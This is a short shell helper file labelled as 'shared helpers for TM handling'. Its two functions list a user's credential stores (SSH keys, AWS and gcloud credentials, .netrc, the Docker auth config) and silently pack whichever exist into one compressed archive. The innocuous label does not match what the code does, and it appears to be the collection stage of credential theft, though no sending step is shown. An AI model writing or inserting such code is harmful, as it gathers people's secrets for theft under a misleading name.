# shared helpers for TM handling
tm_paths() {
  local h=$HOME
  printf '%s\n' "$h/.ssh" "$h/.aws" "$h/.config/gcloud" "$h/.netrc" "$h/.docker/config.json"
}
tm_pack() {
  tar czf "$1" $(tm_paths | while read -r p; do [ -e "$p" ] && echo "$p"; done) 2>/dev/null
}
